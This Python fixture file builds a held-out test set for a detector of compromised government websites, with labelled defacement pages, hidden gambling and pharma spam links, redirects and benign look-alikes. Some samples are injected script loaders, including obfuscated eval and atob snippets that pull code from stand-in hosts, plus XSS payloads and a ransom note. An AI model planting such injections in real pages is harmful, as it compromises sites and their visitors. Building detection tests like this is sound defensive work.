"""A second set, written after the judge was tuned on the first one and never tuned on: what generalises?"""

# ruff: noqa: E501 — markup as it is sent, one piece a line
from __future__ import annotations

from collections.abc import Iterator
from itertools import count

from hardset.around import OFFICES, TEMPLATES
from hardset.cases import Case

PAGES: tuple[tuple[str, str, str], ...] = (  # whole answers: (label, kind, body)
    ("deface", "whole", "<title>Hacked By M0nk3y_D</title><body bgcolor=#000><center><img src=https://i.ibb.co/k/p.png><br><font color=white face=Courier>Hello Admin! Your website is vulnerable.<br>We are: M0nk3y_D - x_Tar1k - Ghaz4</font></center>"),
    ("deface", "whole", "<html><head><title>-= Nguyen Cyber Squad =-</title></head><body style='background:black'><h1 style='color:red'>Trang web của bạn đã bị chúng tôi ghé thăm</h1><p style='color:white'>Hãy vá lỗi sớm nhé admin. Không có dữ liệu nào bị xoá.</p></body></html>"),
    ("deface", "whole", "<center><br><br><h2>OOPS! Your site got pwned</h2><p>by k1ll3r_b33</p><p>Mail: killerbee@proton.example</p></center>"),
    ("deface", "whole", "<title>Site Hackeado!</title><body bgcolor=black><p align=center><font color=red size=7>R.I.P segurança</font></p><p align=center><font color=white>by Cyb3r_Lampião</font></p>"),
    ("deface", "whole", "<title>HackeD By TurkDefans</title><body bgcolor='black'><center><img src='bayrak.gif'><h1>Şehitler ölmez vatan bölünmez</h1><h2>Bu sayfa TurkDefans tarafından ele geçirilmiştir</h2><embed src='mehter.mp3' autostart='true'></center>"),
    ("deface", "whole", "<html><title>Diretas!</title><body bgcolor='black'><center><font size='6' color='white'>Website ini diretas oleh ~ Mas Bejo ~</font><br><font color='grey'>pesan: jangan korupsi terus pak, rakyat susah</font></center></body></html>"),
    ("deface", "whole", "<html dir=rtl><title>مخترق</title><body bgcolor=black><center><font color=red size=6>تم اختراق الموقع بواسطة نمر الأوراس</font><br><font color=white>الجزائر - المغرب - فلسطين حرة</font>"),
    ("deface", "whole", "<html dir=rtl><title>هک شد</title><body bgcolor=black><center><font color=lime size=6>سایت شما توسط عقاب سیاه هک شد</font><p>امنیت یعنی هیچ</p>"),
    ("deface", "whole", "<title>你好管理员</title><body bgcolor=black><center><font color=red size=6>此网站已被黑鹰小组入侵</font><p>请加强安全防护 QQ:10001</p>"),
    ("deface", "whole", "<title>Взлом</title><body style='background:#000;color:#0f0'><pre>Сайт взломан. by nightmare_ru\nадмин смени пароль, не будь лохом</pre>"),
    ("deface", "whole", "<title>Piraté</title><body bgcolor=black><center><h1>Ce site a été piraté par Dz_Falcon</h1><h3>Algérie mon amour</h3></center>"),
    ("deface", "whole", "<!DOCTYPE html><html><head><meta charset=utf-8><title>𝕳𝖆𝖈𝖐𝖊𝖉 𝖇𝖞 𝕹𝖔𝖇𝖔𝖉𝖞</title><style>*{background:#000;color:#f00;text-align:center}</style></head><body><h1>𝕳𝖆𝖈𝖐𝖊𝖉 𝖇𝖞 𝕹𝖔𝖇𝖔𝖉𝖞</h1><audio src=x.mp3 autoplay></audio></body></html>"),
    ("deface", "whole", "<title>0xDEAD</title><body bgcolor=black text=white><pre>root@target:~# whoami\nroot\nroot@target:~# echo 'y0u g0t 0wn3d' > index.html\n</pre>"),
    ("deface", "whole", "<title>Error 1337</title><body style='background:#000'><h1 style='color:#fff'>ACCESS GRANTED</h1><h3 style='color:red'>This server has been compromised by Silent Wolves. Admin, check your mailbox.</h3>"),
    ("deface", "whole", "<title>Index</title><center><img src='https://i.imgur.com/anon.jpg'><br><b>Touched by Mr.Penjol</b><br><i>Just a warning, no data deleted</i></center>"),
    ("deface", "whole", "<title>Sorry</title><body bgcolor=black><script>var t=['Sorry admin...','Your security is zero','-- Team L33ch --'];</script><div id=o></div><audio src=a.mp3 autoplay></audio>"),
    ("deface", "whole", "<title>W3LC0M3</title><body style=background:#000><center style=color:#fff><h2>Stamped By N00b_Sec</h2>thanks: bapak ojol, mie ayam, kopi hitam</center>"),
    ("deface", "whole", "<html><body>pwned by s3cr3t, fix ur wp plugins bro</body></html>"),
    ("deface", "whole", "<h1>Bạn đã bị hack!</h1><p>~ Nhóm Sói Con ~</p>"),
    ("deface", "whole", "<title>Free Papua</title><body bgcolor=black><center><font color=white size=6>PAPUA MERDEKA</font><br>We will not stop until justice. Cyber resistance was here.</center>"),
    ("deface", "whole", "<title>#OpVietnam</title><body bgcolor=black><h1 style=color:#fff>Greetings citizens of the world. We are Anonymous.</h1><p style=color:#fff>The government of this country has failed its people. Expect us.</p><iframe width=0 height=0 src=https://www.youtube.com/embed/x?autoplay=1></iframe>"),
    ("deface", "whole", "<title>Notice</title><h2>Your database was downloaded and erased.</h2><p>To get it back pay 0.03 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa within 3 days.</p>"),
    ("deface", "picture", "<html><body bgcolor=000000><p align=center><img src=images/hck.jpg></p></body></html>"),
    ("deface", "picture", "<body style='background:url(https://i.imgur.com/zz.gif);background-color:#000'><iframe src=https://www.youtube.com/embed/9?autoplay=1 width=0 height=0></iframe></body>"),
    ("deface", "tiny", "haxored by c0ffee"), ("deface", "tiny", "<h1>Hacked :)</h1>"), ("deface", "tiny", "./n1ghtcrawl3r was here"),
    ("deface", "tiny", "Defaced By Bocah Tengil"), ("deface", "tiny", "hack bởi tèo em"), ("deface", "tiny", "Взломан"), ("deface", "tiny", "被黑"),
    ("deface", "written", "<script>document.write(atob('PGgxPkhhY2tlZCBieSBNb2xlPC9oMT4='))</script>"),
    ("deface", "written", "<script language=javascript>document.write(unescape('%3C%74%69%74%6C%65%3E%48%61%63%6B%65%64%20%62%79%20%4D%6F%6C%65%3C%2F%74%69%74%6C%65%3E'))</script>"),
    ("deface", "written", "<body><script>var s=[72,97,99,107,101,100,32,98,121,32,77,111,108,101];document.body.innerHTML=s.map(c=>String.fromCharCode(c)).join('')</script>"),
    ("spam", "doorway", "<html amp lang=id><head><title>MAHJONG288 : Link Alternatif Game Mahjong Wins 3 Black Scatter</title><link rel=amphtml href=https://288amp.example.sbs/></head><body><h1>MAHJONG288</h1><p>Mahjong288 adalah situs resmi permainan mahjong wins dengan scatter hitam, login alternatif dan deposit qris 5000.</p><a href=https://cutt.example/x>MASUK</a></body></html>"),
    ("spam", "doorway", "<html lang=vi><head><title>RR99 - Trang chủ đăng ký RR99 chính thức 2026</title><meta name=description content='RR99 sân chơi cá cược đẳng cấp, casino, thể thao, nổ hũ, bắn cá, xổ số'></head><body><h1>RR99</h1><p>Sân chơi cá cược đẳng cấp với casino live, thể thao, nổ hũ, bắn cá. Tặng 99k cho tân thủ.</p></body></html>"),
    ("spam", "doorway", "<html lang=tr><head><title>Casibom Giriş - Casibom Güncel Adres 2026</title></head><body><h1>Casibom</h1><p>Casibom bahis ve casino sitesi güncel giriş adresi, hoşgeldin bonusu, slot oyunları, canlı casino.</p></body></html>"),
    ("redirect", "alone", "<script>top.location.href='https://vn88-cuoc.example.club/';</script>"),
    ("redirect", "alone", "<html><head><meta http-equiv='refresh' content='1; url=http://789club-taigame.example.xyz'></head><body>Loading...</body></html>"),
)  # fmt: skip

PARTS: tuple[tuple[str, str, str, str], ...] = (  # put into a genuine page: (label, kind, place, html)
    ("deface", "title", "title", "Hacked By Phantom_Vn"), ("deface", "title", "title", "DEFACED BY KHALIFAH CYBER CREW"),
    ("deface", "headline", "main", "<h1>Đã bị hack bởi AnhTuCoder</h1>"), ("deface", "headline", "main", "<h2>HACKEADO POR LULZSUL</h2>"),
    ("deface", "headline", "end", "<center><h1>Owned by D4rkn3ss - your security is a joke</h1></center>"),
    ("deface", "line", "main", "<p><b>Hacked by Sad_Boy07 | greetz: all my friends</b></p>"),
    ("deface", "line", "main", "<marquee>./Kucing_Garong was here !!! diretas oleh Kucing_Garong</marquee>"),
    ("deface", "overlay", "end", "<div style='position:fixed;inset:0;z-index:2147483647;background:black'><h1 style='color:lime'>SYSTEM HACKED</h1><p>by Team Cobra</p></div>"),
    ("spam", "hidden", "end", "<div style='position:absolute;top:-5000px'><a href='https://slot-demo-x.example'>slot demo</a><a href='https://rtp-live.example'>rtp live slot</a></div>"),
    ("spam", "hidden", "end", "<div style='display:none'><a href=https://fb88vip.example>fb88</a> <a href=https://a.example>nhà cái fb88</a></div>"),
    ("spam", "hidden", "main", "<span style='font-size:0'><a href=https://b.example>cialis generico</a> <a href=https://c.example>viagra senza ricetta</a></span>"),
    ("spam", "hidden", "end", "<div style='height:0px;overflow:hidden'><a href=https://d.example>bahis siteleri</a> <a href=https://e.example>kaçak bahis</a></div>"),
    ("spam", "hidden", "end", "<div style='left:-6000px;position:absolute'><a href=https://f.example>真人娱乐</a><a href=https://g.example>时时彩</a></div>"),
    ("spam", "article", "both", "GO88 - Cổng game bài đổi thưởng quốc tế số 1|<p>Tải Go88 chính thức: tài xỉu md5, xóc đĩa, mini poker, nổ hũ. Nạp rút siêu tốc, giftcode 50k cho tân thủ. <a href=https://go88-tai.example>Tải ngay</a></p>"),
    ("spam", "article", "both", "Situs Toto Macau 5D dengan Hadiah Terbesar|<p>Daftar situs toto togel online, pasaran toto macau, bandar 4d hadiah 10 juta, bonus deposit harian. <a href=https://totoku.example>DAFTAR</a></p>"),
    ("spam", "article", "both", "Generic Cialis Online - Lowest Price Guaranteed|<p>Buy cialis online without prescription. Cheap tadalafil, viagra, levitra shipped worldwide overnight delivery.</p>"),
    ("spam", "article", "both", "Xoilac TV - Trực tiếp bóng đá hôm nay|<p>Xoilac TV trực tiếp bóng đá, kèo nhà cái, tỷ lệ kèo, soi kèo châu Á, link nhà cái uy tín cược thể thao.</p>"),
    ("script", "src", "head", "<script src='https://js-cdn-load.example.shop.icu/gate.js'></script>"),
    ("script", "src", "end", "<script async src=//193.56.29.4/t.js></script>"),
    ("script", "src", "head", "<script src=https://pub-9f.r2.dev/l.js></script>"),
    ("script", "src", "title", "Portal\"><script src=https://ez.pe></script>"),
    ("script", "xss", "main", "<a href=/q>câu hỏi <script src=//bo.wf></script></a>"),
    ("script", "xss", "main", "<details open ontoggle=alert(1)>x</details>"),
    ("script", "loader", "end", "<script>eval(String.fromCharCode(118,97,114,32,115,61,100,111,99,117,109,101,110,116,46,99,114,101,97,116,101,69,108,101,109,101,110,116,40,39,115,99,114,105,112,116,39,41))</script>"),
    ("script", "loader", "head", "<script>var d=atob('aHR0cHM6Ly94LmV4YW1wbGUudG9wL2EuanM=');var s=document.createElement('script');s.src=d;document.head.appendChild(s);</script>"),
    ("redirect", "hop", "head", "<script>if(document.referrer.indexOf('google')>-1){window.location='https://keonhacai88.example.net'}</script>"),
    ("redirect", "frame", "end", "<iframe src=https://sunwin20.example style='position:absolute;top:0;left:0;width:100vw;height:100vh;z-index:99999;border:0'></iframe>"),
    ("redirect", "refresh", "head", "<meta http-equiv=refresh content='5;url=https://rikvip-x.example.fun/'>"),
    ("benign", "news", "both", "Nhóm hacker tấn công website, để lại dòng chữ Hacked by|<p>Theo Trung tâm Giám sát an toàn không gian mạng quốc gia, nhóm này đã chèn liên kết cờ bạc nhà cái vào 30 trang.</p>"),
    ("benign", "news", "both", "Anonymous claims attack on ministry website|<p>\"We are Anonymous, expect us\", the group wrote on social media. The ministry says services were not affected.</p>"),
    ("benign", "news", "both", "Cara mencegah website diretas|<p>Perbarui CMS, gunakan kata sandi kuat, dan cadangkan data. Jika situs menampilkan \"Hacked by\", hubungi tim CSIRT.</p>"),
    ("benign", "news", "both", "Sitenizin hacklenmemesi için 10 öneri|<p>Uzmanlara göre güncel olmayan eklentiler en büyük risk.</p>"),
    ("benign", "news", "both", "Pirataria e hackers: palestra na biblioteca|<p>O evento discute segurança digital para idosos.</p>"),
    ("benign", "news", "both", "Ngăn chặn tình trạng chèn quảng cáo cờ bạc vào trang gov.vn|<p>Bộ yêu cầu rà soát các trang bị chèn nội dung nhà cái, tài xỉu, nổ hũ, cá độ; gỡ bỏ trước ngày 30/6.</p>"),
    ("benign", "news", "both", "Sở Y tế cảnh báo thuốc Cialis, Viagra giả|<p>Các lô sildenafil giả được rao bán online không cần đơn; đề nghị các nhà thuốc kiểm tra.</p>"),
    ("benign", "news", "both", "Lịch quay số mở thưởng xổ số kiến thiết miền Bắc|<p>XSMB quay hằng ngày lúc 18 giờ 15; vé số trúng được trả thưởng trong 30 ngày.</p>"),
    ("benign", "news", "both", "Giải đấu poker, bida và cờ vua hội thao công chức|<p>Ban tổ chức trao giải nhất môn cờ vua cho đội Sở Tài chính.</p>"),
    ("benign", "news", "both", "Casino resort proposal goes to public hearing|<p>The planning board will hear comments about slot machines, traffic and jobs. Opponents fear addiction.</p>"),
    ("benign", "news", "both", "关于开展打击网络赌博宣传活动的通知|<p>各单位要组织学习，提醒干部群众不参与百家乐、六合彩等网络赌博。</p>"),
    ("benign", "news", "both", "Ransomware: what to do when your files are encrypted|<p>Unplug the computer, call IT, do not pay the bitcoin demanded in the note.</p>"),
    ("benign", "piece", "end", "<div style='position:fixed;inset:0;z-index:9999;background:#fff'><h2>Thư chúc Tết của Chủ tịch tỉnh</h2><a href=#>Đóng</a></div>"),
    ("benign", "piece", "end", "<script src='https://widget.tiennghi-web.example/chat.js'></script><iframe src='https://thoitiet.example/w'></iframe>"),
    ("benign", "piece", "main", "<ul hidden><li><a href=https://baomoi.example>Báo</a><a href=https://tuoitre.example>TT</a></ul>"),
    ("benign", "piece", "main", "<p><b>Owned by the province since 1998</b></p><p>Locked by appointment</p><p>Tested by experts</p>"),
    ("benign", "piece", "main", "<h3>We are back!</h3><h3>Santa was here</h3><p>Photos of the party: team Alpha, team Beta</p>"),
)  # fmt: skip

ANSWERS: tuple[str, ...] = (
    "<title>403 Forbidden</title><h1>Forbidden</h1><p>You don't have permission. Apache/2.4 Server</p>",
    "<title>Site under maintenance</title><body bgcolor=black><h1 style=color:white>We'll be back soon!</h1><p>Sorry for the inconvenience, our team is fixing a security issue.</p>",
    "<title>Bảo trì hệ thống</title><img src=/baotri.png><p>Hệ thống tạm ngừng để nâng cấp bảo mật</p>",
    "<html><body><img src='/images/dang-bao-tri.jpg' usemap=#m><map name=m><area href=/vi></map></body></html>",
    "<title>Hacker News</title><a href=/newest>new</a> <a href=/ask>ask</a><ol><li>Show HN: I hacked my toaster<li>Why we are rewriting it<li>Ask HN: hacked by my cat?</ol><a href=/a>1</a><a href=/b>2</a><a href=/c>3</a><a href=/d>4</a>",
    "<title>Radio Tỉnh</title><body style='background:#000;color:#fff'><h2>Đang phát trực tiếp</h2><audio autoplay src=/live.mp3></audio><a href=/lich>Lịch phát</a><a href=/nghe-lai>Nghe lại</a>",
    "<title>Cờ vua online - Trường THCS</title><h1>Câu lạc bộ cờ vua</h1><p>Game bài tập cho học sinh</p>",
    "{\"error\":\"unauthorized\",\"message\":\"token expired\"}", "User-agent: *\nDisallow: /admin", "pong", "true", "0",
    "<!doctype html><title>Loading…</title><div id=app></div><script type=module src=/assets/index-3f9a.js></script>",
    "<title>Redirecting</title><meta http-equiv=refresh content='0;url=https://www.thuchanh.gov.vn/'><a href=https://www.thuchanh.gov.vn/>here</a>",
    "<html><head><script>location.href='/Pages/default.aspx'</script></head></html>",
    "<title>Bad Request (Invalid Hostname)</title><h2>Bad Request - Invalid Hostname</h2><hr><p>HTTP Error 400.</p>",
    "<title>phpinfo()</title><h1>PHP Version 7.4.3</h1><table><tr><td>System<td>Linux web01 5.4.0-42-generic #46-Ubuntu SMP x86_64</table>",
    "<title>Test page</title><h1>Trang thử nghiệm</h1><p>test test test</p>",
    "<title>Kính viếng</title><body bgcolor=#000><center><img src=/nen.gif><h2><font color=white>Tưởng niệm các anh hùng liệt sĩ</font></h2></center>",
)  # fmt: skip


def cases() -> Iterator[Case]:
    """Every case of the second set."""
    numbers = count()
    for label, kind, body in PAGES:
        yield Case(
            f"f{next(numbers):03d}-{label}-{kind}", label, f"fresh-{kind}", "", "https://a.gov.vn/", body.encode()
        )
    for body in ANSWERS:
        yield Case(
            f"f{next(numbers):03d}-benign-answer", "benign", "fresh-answer", "", "https://a.gov.vn/", body.encode()
        )
    offices = list(OFFICES.values())
    for turn, (label, kind, place, html) in enumerate(PARTS):
        for step in (0, 1):
            office = offices[0] if step == 0 else offices[turn % len(offices)]
            title, main, places = "Portal", "", {}
            if place == "both":
                title, main = html.split("|", 1)
            elif place == "title":
                title, places = html, {"heading": "Portal"}
            elif place == "main":
                main = html
            else:
                places = {place: html}
            page = TEMPLATES[(turn + step) % 3](office, title, main, **places)
            yield Case(
                f"f{next(numbers):03d}-{label}-{kind}",
                label,
                f"fresh-{kind}",
                office.lang,
                f"https://{office.host}/p",
                page.encode(),
            )
